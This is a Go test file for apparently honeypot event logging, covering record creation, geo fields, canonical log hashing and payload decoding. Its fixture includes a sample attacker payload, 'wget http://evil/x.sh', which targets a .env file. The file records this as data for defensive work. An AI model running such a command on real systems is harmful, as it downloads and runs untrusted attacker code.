package event

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"
)

func testDocument() *Document {
	target := "config/.env"
	return &Document{
		Timestamp:     "2025-06-01T12:00:00Z",
		SourceIP:      "203.0.113.7",
		Protocol:      "HTTP",
		TargetService: "Fake Git Repository",
		Action:        "git_push",
		TargetFile:    &target,
		Payload:       map[string]any{"cmd": "wget http://evil/x.sh"},
		Headers:       map[string]string{"User-Agent": "curl/8.0"},
		SessionID:     "sess-1",
		UserAgent:     "curl/8.0",
	}
}

func TestNewRecord(t *testing.T) {
	doc := testDocument()
	lat := 50.1
	geo := Geo{Country: "Germany", City: "Frankfurt", Region: "Hesse", Latitude: &lat}

	rec, err := NewRecord(doc, geo)
	require.NoError(t, err)

	assert.Equal(t, "Germany", rec.GeoCountry)
	assert.Equal(t, "203.0.113.7", rec.SourceIP)
	assert.NotEmpty(t, rec.LogHash)
	assert.Len(t, rec.LogHash, 64)

	// Stored payload round-trips through the decoded accessors
	payload, ok := rec.DecodedPayload().(map[string]any)
	require.True(t, ok)
	assert.Equal(t, "wget http://evil/x.sh", payload["cmd"])
	assert.Equal(t, "curl/8.0", rec.DecodedHeaders()["User-Agent"])
}

func TestCanonicalHashStableAcrossScoring(t *testing.T) {
	rec, err := NewRecord(testDocument(), Geo{Country: "Germany"})
	require.NoError(t, err)
	before := rec.LogHash

	rec.MLScore = 0.93
	rec.MLRiskLevel = RiskHigh
	rec.IsAnomaly = 1
	rec.PredictedAttackType = AttackExploit
	rec.DarknetTrafficType = TrafficTor
	rec.ID = 42
	rec.CreatedAt = time.Now()

	assert.Equal(t, before, CanonicalHash(rec))
}

func TestCanonicalHashDiffersOnIdentityFields(t *testing.T) {
	base, err := NewRecord(testDocument(), Geo{})
	require.NoError(t, err)

	other := testDocument()
	other.SessionID = "sess-2"
	changed, err := NewRecord(other, Geo{})
	require.NoError(t, err)

	assert.NotEqual(t, base.LogHash, changed.LogHash)
}

func TestDecodedAccessorsDegradeOnMalformedText(t *testing.T) {
	rec := &Record{Payload: "{broken", Headers: "{broken"}
	assert.Equal(t, map[string]any{}, rec.DecodedPayload())
	assert.Equal(t, map[string]any{}, rec.DecodedHeaders())

	empty := &Record{}
	assert.Equal(t, map[string]any{}, empty.DecodedPayload())
	assert.Equal(t, map[string]any{}, empty.DecodedHeaders())
}

func TestCanonicalHashDeterministic(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		doc := &Document{
			Timestamp:     rapid.StringMatching(`2025-0[1-9]-[0-2][0-9]T12:00:00Z`).Draw(t, "ts"),
			SourceIP:      rapid.StringMatching(`\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}`).Draw(t, "ip"),
			Protocol:      rapid.SampledFrom([]string{"HTTP", "SSH", "TCP"}).Draw(t, "proto"),
			TargetService: rapid.SampledFrom([]string{"Fake Git Repository", "Fake CI/CD Runner"}).Draw(t, "svc"),
			Action:        rapid.SampledFrom([]string{"git_push", "scan", "file_access"}).Draw(t, "action"),
			SessionID:     rapid.StringN(1, 16, 16).Draw(t, "session"),
			UserAgent:     rapid.StringN(0, 32, 32).Draw(t, "ua"),
			Headers:       map[string]string{"k": rapid.StringN(0, 8, 8).Draw(t, "hv")},
			Payload:       map[string]any{"v": rapid.Float64Range(0, 1e6).Draw(t, "pv")},
		}

		a, err := NewRecord(doc, Geo{Country: "Unknown"})
		require.NoError(t, err)
		b, err := NewRecord(doc, Geo{Country: "Unknown"})
		require.NoError(t, err)

		assert.Equal(t, a.LogHash, b.LogHash)
	})
}
